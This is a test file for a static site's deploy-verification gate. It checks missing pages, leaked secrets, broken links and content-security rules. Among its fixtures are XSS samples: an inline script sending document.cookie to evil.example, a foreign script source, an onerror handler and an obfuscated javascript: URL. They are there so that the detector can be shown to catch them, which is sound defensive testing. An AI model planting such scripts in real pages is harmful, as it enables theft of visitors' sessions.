/**
 * The deploy gate (`npm run verify`) over small built sites written to a temporary folder: a
 * complete one passes, and each way a build can go wrong fails with a reason that names it.
 */
import { Buffer } from 'node:buffer';
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CSP_DIRECTIVES, contentSecurityPolicy, inlineScriptHashes } from '../../scripts/verify/csp.ts';
import { pagePathOf, resolveSitePath } from '../../scripts/verify/files.ts';
import { decodeEntities, scanTags } from '../../scripts/verify/html.ts';
import { cssReferences, internalTarget, srcsetUrls } from '../../scripts/verify/links.ts';
import { type BuildManifest, checkCollections, writeBuildManifest } from '../../scripts/verify/manifest.ts';
import { expectedPages, FIXED_ROUTES, type Snapshot } from '../../scripts/verify/pages.ts';
import type { Problem } from '../../scripts/verify/problem.ts';
import { formatReport } from '../../scripts/verify/report.ts';
import { runVerify, type VerifyOptions } from '../../scripts/verify/run.ts';
import { scriptHash } from '../../scripts/verify/scripts.ts';
import { encodingsOf, secretsFromEnv } from '../../scripts/verify/secrets.ts';

const exec = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, '../..');
const SITE_ORIGIN = 'https://turismo.example.com.br';
const SECRET = 'prov-token-5f2a9c1e7d';

/** Our one inline script (like the 404 page's) and the policy that allows it. */
const OWN_INLINE = "document.documentElement.dataset.ready='1'";
const policy = (hashes: string[]) =>
  `default-src 'self'; script-src 'self' ${hashes.map((hash) => `'${hash}'`).join(' ')}; style-src 'self'`;

const SNAPSHOT: Record<string, { id: string }[]> = {
  city: [{ id: '1' }],
  tours: [{ id: '101' }, { id: '102' }],
  accommodation: [{ id: '201' }],
  restaurants: [],
  events: [{ id: '401' }],
  drivers: [],
  guides: [],
  agencies: [],
  attractions: [],
  experiences: [{ id: '7' }],
  testimonials: [{ id: '11' }],
  news: [{ id: '1008' }],
  episodes: [{ id: 'ep1' }],
};

function page(body: string, options: { hashes?: string[]; head?: string } = {}): string {
  const hashes = options.hashes ?? [scriptHash(OWN_INLINE)];
  return `<!doctype html><html lang="pt-BR"><head><meta charset="utf-8">
<meta http-equiv="content-security-policy" content="${policy(hashes)}">
<link rel="stylesheet" href="/_astro/site.css"><link rel="canonical" href="${SITE_ORIGIN}/">
<script type="application/ld+json">{"@type":"Thing","description":"<b onclick=x>not markup</b>"}</script>
${options.head ?? ''}</head><body><a href="/">Início</a> <a href="/all-tours#lista">Passeios</a>
<img src="/images/logo.svg" srcset="/images/logo.svg 1x, /images/logo.svg 2x" alt="">
<script type="module" src="/_astro/page.js"></script><script>${OWN_INLINE}</script>
${body}</body></html>`;
}

interface Fixture {
  root: string;
  dist: string;
  snapshot: string;
  options(overrides?: Partial<VerifyOptions>): VerifyOptions;
  write(file: string, content: string): Promise<void>;
}

/** A complete small site: every fixed route, one page per snapshot item, its assets and manifest. */
async function makeFixture(): Promise<Fixture> {
  const root = await mkdtemp(path.join(tmpdir(), 'verify-'));
  const dist = path.join(root, 'dist');
  const snapshot = path.join(root, 'snapshot');
  const write = async (file: string, content: string) => {
    await mkdir(path.dirname(path.join(dist, file)), { recursive: true });
    await writeFile(path.join(dist, file), content);
  };
  await mkdir(snapshot, { recursive: true });
  for (const [name, entries] of Object.entries(SNAPSHOT)) {
    await writeFile(path.join(snapshot, `${name}.json`), JSON.stringify(entries));
  }
  const pages = expectedPages(SNAPSHOT as Snapshot);
  for (const { path: sitePath } of pages) {
    const file = sitePath === '/' ? 'index.html' : `${decodeURIComponent(sitePath.slice(1))}.html`;
    const extra = sitePath === '/all-tours' ? '<ul id="lista"><li><a href="tour/101">101</a></li></ul>' : '';
    await write(file, page(extra));
  }
  await write('_astro/page.js', 'export {};');
  await write('_astro/site.css', 'body{background:url(/images/logo.svg)}@font-face{src:url("./poppins.woff2")}');
  await write('_astro/poppins.woff2', 'font');
  await write('images/logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>');
  await write(
    'sitemap-0.xml',
    `<?xml version="1.0"?><urlset><url><loc>${SITE_ORIGIN}/</loc></url><url><loc>${SITE_ORIGIN}/tour/101?a=1&amp;b=2</loc></url></urlset>`,
  );
  await writeBuildManifest(dist, snapshot, root);
  return {
    root,
    dist,
    snapshot,
    write,
    options: (overrides = {}) => ({
      distDir: dist,
      snapshotDir: snapshot,
      previous: null,
      allowShrink: false,
      secrets: [{ name: 'PROVIDER_API_TOKEN', value: SECRET }],
      siteOrigin: SITE_ORIGIN,
      ...overrides,
    }),
  };
}

const messages = (problems: readonly Problem[], gate: Problem['gate']) =>
  problems.filter((problem) => problem.gate === gate).map((problem) => problem.message);

let fixture: Fixture;
beforeEach(async () => {
  fixture = await makeFixture();
});
afterEach(async () => {
  await rm(fixture.root, { recursive: true, force: true });
});

describe('runVerify', () => {
  it('passes a complete site', async () => {
    const result = await runVerify(fixture.options());
    expect(result.problems).toEqual([]);
    expect(result.stats.expectedPages).toBe(FIXED_ROUTES.length + 7);
  });

  it('fails on a missing item page, naming the page and the item', async () => {
    await unlink(path.join(fixture.dist, 'tour/102.html'));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /tour/102 (tours item 102) was not built.']);
  });

  it('fails on a missing route of the route table', async () => {
    await unlink(path.join(fixture.dist, 'all-drivers.html'));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /all-drivers (route of the route table) was not built.']);
  });

  it('fails on a collection emptied since the last published site, and passes it with the override', async () => {
    const previous = (await readManifestFile(fixture.dist)) as BuildManifest;
    await writeFile(path.join(fixture.snapshot, 'testimonials.json'), '[]');
    await writeBuildManifest(fixture.dist, fixture.snapshot, fixture.root);
    const { problems } = await runVerify(fixture.options({ previous }));
    expect(messages(problems, 'collections')).toEqual([
      expect.stringMatching(
        /^The collection testimonials is empty, but the last published site had 1 entries\. .*--allow-shrink/,
      ),
    ]);
    expect((await runVerify(fixture.options({ previous, allowShrink: true }))).problems).toEqual([]);
  });

  it('fails when the site was built from other data than the snapshot checked', async () => {
    await writeFile(path.join(fixture.snapshot, 'events.json'), '[]');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'collections')).toEqual([
      'The site was built from other data than the snapshot being checked (events: 1 in the build, 0 in the snapshot).',
    ]);
  });

  it.each([
    ['as it is', SECRET],
    ['URL-encoded', encodeURIComponent(`${SECRET}/x`)],
    ['base64-encoded', Buffer.from(SECRET).toString('base64')],
  ])('fails on a secret planted in dist/ (%s), without printing it', async (form, planted) => {
    await fixture.write('_astro/chunk.js', `const leaked = "${planted}";`);
    const options = fixture.options();
    if (form === 'URL-encoded') options.secrets = [{ name: 'PROVIDER_API_TOKEN', value: `${SECRET}/x` }];
    const { problems } = await runVerify(options);
    expect(messages(problems, 'secrets')).toEqual([`_astro/chunk.js contains the value of PROVIDER_API_TOKEN (${form}).`]);
    expect(formatReport(problems)).not.toContain(SECRET);
  });

  it('fails on a broken internal link, once per target with the pages that link to it', async () => {
    await fixture.write('about.html', page('<a href="/tour/999">Passeio antigo</a><a href="../tour/999">de novo</a>'));
    await fixture.write(
      'contato.html',
      page(`<a href="${SITE_ORIGIN}/tour/999">x</a><a href="https://elsewhere.example/y">ok</a>`),
    );
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/999 does not exist (linked from about.html, contato.html).']);
  });

  it('fails on a page the sitemap lists but the build does not have', async () => {
    await fixture.write('sitemap-0.xml', `<urlset><url><loc>${SITE_ORIGIN}/tour/103</loc></url></urlset>`);
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/103 does not exist (linked from sitemap-0.xml).']);
  });

  it('fails on a missing asset, a missing anchor and a missing font of a stylesheet', async () => {
    await unlink(path.join(fixture.dist, '_astro/poppins.woff2'));
    await fixture.write('about.html', page('<img src="/images/gone.avif" alt=""><a href="/all-tours#nada">x</a>'));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links').sort()).toEqual([
      '/_astro/poppins.woff2 does not exist (linked from _astro/site.css).',
      '/all-tours#nada does not exist (linked from about.html).',
      '/images/gone.avif does not exist (linked from about.html).',
    ]);
  });

  it.each([
    [
      'a foreign inline script',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      /an inline script that our build did not put there .*evil\.example/,
    ],
    [
      'a script from another site',
      '<script src="https://cdn.evil.example/x.js"></script>',
      /a script is loaded from https:\/\/cdn\.evil\.example\/x\.js/,
    ],
    [
      'an inline event handler',
      '<img src="/images/logo.svg" alt="" onerror="alert(1)">',
      /an inline event handler onerror="alert\(1\)" on <img>/,
    ],
    ['a javascript: URL', '<a href=" jav&#x09;ascript:alert(1)">x</a>', /a javascript: URL in href on <a>/],
  ])('fails on %s', async (_name, markup, reason) => {
    await fixture.write('news/1008.html', page(markup));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toEqual([expect.stringMatching(reason)]);
    expect(messages(problems, 'scripts')[0]).toMatch(/^news\/1008\.html: /);
  });

  it('fails on a page without a Content-Security-Policy', async () => {
    await fixture.write('about.html', page('').replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toContain(
      'about.html: the page has no Content-Security-Policy, so nothing stops a foreign script from running.',
    );
  });

  it('reports a missing build as one plain reason', async () => {
    const { problems } = await runVerify(fixture.options({ distDir: path.join(fixture.root, 'nowhere') }));
    expect(problems).toEqual([
      { gate: 'pages', message: expect.stringMatching(/^There is no built site in .*nowhere: run the build first\.$/) },
    ]);
  });
});

async function readManifestFile(dist: string): Promise<unknown> {
  return JSON.parse(await readFile(path.join(dist, 'build-manifest.json'), 'utf8'));
}

/** Only what the command needs: the secrets it searches for come from the test, not from this machine. */
const BASE_ENV = { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '', SITE_URL: SITE_ORIGIN };

describe('the command', () => {
  it('exits 1 and prints every reason under its heading; exits 0 on a good site', async () => {
    const env = { ...BASE_ENV, PROVIDER_API_TOKEN: SECRET, SNAPSHOT_DIR: fixture.snapshot };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    const ok = await exec(process.execPath, args, { cwd: ROOT, env });
    expect(ok.stdout).toMatch(/^verify: ok in .* 1 secret\(s\) searched for/m);

    await unlink(path.join(fixture.dist, 'experience/7.html'));
    await fixture.write('_astro/leak.js', SECRET);
    const failed = await exec(process.execPath, args, { cwd: ROOT, env }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed?.code).toBe(1);
    expect(failed?.stderr).toContain('Missing pages (1):\n  - The page /experience/7 (experiences item 7) was not built.');
    expect(failed?.stderr).toContain(
      'Secrets in the built site (1):\n  - _astro/leak.js contains the value of PROVIDER_API_TOKEN (as it is).',
    );
    expect(failed?.stderr).toContain('The current site stays online.');
    expect(failed?.stderr).not.toContain(SECRET);
  });

  it('compares with the previous manifest given by VERIFY_PREVIOUS_MANIFEST', async () => {
    const previousFile = path.join(fixture.root, 'previous.json');
    const previous = { ...((await readManifestFile(fixture.dist)) as BuildManifest) };
    previous.counts = { ...previous.counts, tours: 5 };
    await writeFile(previousFile, JSON.stringify(previous));
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, VERIFY_PREVIOUS_MANIFEST: previousFile };
    const failed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], { cwd: ROOT, env }).catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({ code: 1 });
    expect((failed as { stderr: string }).stderr).toContain('The collection tours has 2 entries, less than half of the 5');
    const allowed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], {
      cwd: ROOT,
      env: { ...env, ALLOW_SHRINK: 'true' },
    });
    expect(allowed.stdout).toContain('(shrinking allowed)');
  });
});

describe('checkCollections', () => {
  const manifest = (counts: BuildManifest['counts']): BuildManifest => ({ version: 1, builtAt: '', snapshotDir: 's', counts });
  const snapshotOf = (counts: Record<string, number>): Snapshot =>
    Object.fromEntries(
      Object.entries(counts).map(([name, count]) => [name, Array.from({ length: count }, (_, id) => ({ id: String(id) }))]),
    );

  it.each([
    ['the same counts', { city: 1, tours: 10 }, { city: 1, tours: 10 }, []],
    ['exactly half', { city: 1, tours: 10 }, { city: 1, tours: 5 }, []],
    [
      'less than half',
      { city: 1, tours: 10 },
      { city: 1, tours: 4 },
      ['The collection tours has 4 entries, less than half of the 10'],
    ],
    [
      'emptied',
      { city: 1, tours: 10, news: 3 },
      { city: 1, tours: 10, news: 0 },
      ['The collection news is empty, but the last published site had 3'],
    ],
    ['grown from nothing', { city: 1, tours: 0 }, { city: 1, tours: 3 }, []],
    ['an empty site', { city: 1, tours: 0 }, { city: 1, tours: 0 }, ['Every collection is empty']],
    [
      'no city',
      { city: 1, tours: 2 },
      { city: 0, tours: 2 },
      ['The collection city is empty', 'The collection city is empty, but'],
    ],
  ])('%s', (_name, before, now, expected) => {
    const snapshot = snapshotOf(now);
    const problems = checkCollections({
      snapshot,
      built: manifest(snapshotToCounts(snapshot)),
      previous: manifest(before),
      allowShrink: false,
    });
    expect(problems.map((problem) => problem.message)).toEqual(expected.map((start) => expect.stringContaining(start)));
  });

  function snapshotToCounts(snapshot: Snapshot): BuildManifest['counts'] {
    return Object.fromEntries(Object.entries(snapshot).map(([name, entries]) => [name, entries?.length ?? 0]));
  }
});

describe('secrets', () => {
  it('takes the known secrets, credential-like names and an opaque Spotify client id; skips short values', () => {
    const { secrets, tooShort } = secretsFromEnv({
      PROVIDER_API_TOKEN: SECRET,
      SPOTIFY_CLIENT_ID: 'a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6',
      SPOTIFY_CLIENT_SECRET: 'spotify-secret-value',
      DEPLOY_API_KEY: 'k-1234567890',
      REBUILD_TOKEN: 'abc',
      CITY_NAME: 'Barra do Bugres',
    });
    expect(secrets.map((secret) => secret.name)).toEqual([
      'PROVIDER_API_TOKEN',
      'SPOTIFY_CLIENT_SECRET',
      'DEPLOY_API_KEY',
      'SPOTIFY_CLIENT_ID',
      'the Spotify client credentials (HTTP Basic)',
    ]);
    expect(tooShort).toEqual(['REBUILD_TOKEN']);
    expect(secretsFromEnv({ SPOTIFY_CLIENT_ID: 'portal' }).secrets).toEqual([]);
  });

  it('searches each distinct encoding once', () => {
    expect(encodingsOf('plain-value-1').map((encoding) => encoding.form)).toEqual(['as it is', 'base64-encoded']);
    expect(encodingsOf('a/b"c&d~~~?').map((encoding) => encoding.text)).toContain('YS9iImMmZH5-fj8');
    expect(encodingsOf('a/b"c&d~~~?').map((encoding) => encoding.form)).toEqual([
      'as it is',
      'URL-encoded',
      'JSON-escaped',
      'base64-encoded',
      'base64url-encoded',
      'HTML-escaped',
    ]);
  });
});

describe('html scanning', () => {
  it('reads attributes in every quoting style and decodes entities; skips comments and script text', () => {
    const tags = scanTags(
      `<!-- <a href="/no"> --><A HREF='/x?a=1&amp;b=2' data-x=y hidden><script>if (a<b) "<img onerror=x>"</script><p id=z>`,
    );
    expect(tags.map((tag) => [tag.name, Object.fromEntries(tag.attributes)])).toEqual([
      ['a', { href: '/x?a=1&b=2', 'data-x': 'y', hidden: '' }],
      ['script', {}],
      ['p', { id: 'z' }],
    ]);
    expect(tags[1]?.text).toBe('if (a<b) "<img onerror=x>"');
    expect(decodeEntities('&#47;&#x2F;&quot;&unknown;')).toBe('//"&unknown;');
  });
});

describe('paths', () => {
  it.each([
    ['index.html', '/'],
    ['tour/101.html', '/tour/101'],
    ['news/page/2.html', '/news/page/2'],
    ['docs/index.html', '/docs'],
  ])('%s is served at %s', (file, sitePath) => {
    expect(pagePathOf(file)).toBe(sitePath);
  });

  it('resolves site paths as a static host does, never outside the site', () => {
    expect(resolveSitePath(fixture.dist, '/tour/101')).toBe(path.join(fixture.dist, 'tour/101.html'));
    expect(resolveSitePath(fixture.dist, '/')).toBe(path.join(fixture.dist, 'index.html'));
    expect(resolveSitePath(fixture.dist, '/_astro/page.js')).toBe(path.join(fixture.dist, '_astro/page.js'));
    expect(resolveSitePath(fixture.dist, '/../snapshot/city.json')).toBeNull();
    expect(resolveSitePath(fixture.dist, '/%E0%A4%A')).toBeNull();
  });

  it.each([
    ['/tour/1', '/about', { path: '/tour/1', anchor: '' }],
    ['1#fotos', '/tour/2', { path: '/tour/1', anchor: 'fotos' }],
    [`${SITE_ORIGIN}/news?page=2`, '/', { path: '/news', anchor: '' }],
    ['https://wa.me/5565', '/', null],
    ['mailto:a@b.c', '/', null],
    ['data:image/png;base64,AA', '/', null],
  ])('%s from %s', (url, from, expected) => {
    expect(internalTarget(url, from, SITE_ORIGIN)).toEqual(expected);
  });

  it('reads srcset candidates and stylesheet references', () => {
    expect(srcsetUrls('/a.avif 400w, /b.avif 800w')).toEqual(['/a.avif', '/b.avif']);
    expect(cssReferences(`a{b:url(/x.svg)} @import "./y.css"; c{d:url('z.woff2') url( "w.png" )}`)).toEqual([
      '/x.svg',
      './y.css',
      'z.woff2',
      'w.png',
    ]);
  });
});

describe('the content security policy', () => {
  it('hashes our is:inline scripts verbatim and leaves out what cannot be hashed from the source', async () => {
    const source = path.join(fixture.root, 'src');
    await mkdir(path.join(source, 'pages'), { recursive: true });
    await writeFile(
      path.join(source, 'pages/a.astro'),
      [
        '---\n// JSON in a <script> must not close it.\nconst open = (value) => "<script>" + value;\n---',
        '{items.map((item) => <script type="application/ld+json" set:html={json(item)} />)}',
        '<script is:inline data-shell="x">\n  go(a > b);\n</script><script>bundled()</script>',
        '<script is:inline define:vars={{ x: 1 > 0 }}>x</script><script type="application/ld+json" is:inline>{}</script>',
      ].join('\n'),
    );
    expect(inlineScriptHashes(source)).toEqual([scriptHash('\n  go(a > b);\n')]);
  });

  it('allows our files, WebAssembly for the search and the two embed hosts, nothing else', () => {
    const csp = contentSecurityPolicy(path.join(ROOT, 'src'));
    expect(csp.scriptDirective.resources).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(CSP_DIRECTIVES).toContain('frame-src https://www.google.com https://maps.google.com https://open.spotify.com');
    expect(CSP_DIRECTIVES.join(';')).not.toMatch(/unsafe-inline|unsafe-eval'|\*|https:(?!\/\/)/);
    expect(CSP_DIRECTIVES).toContain("object-src 'none'");
  });
});
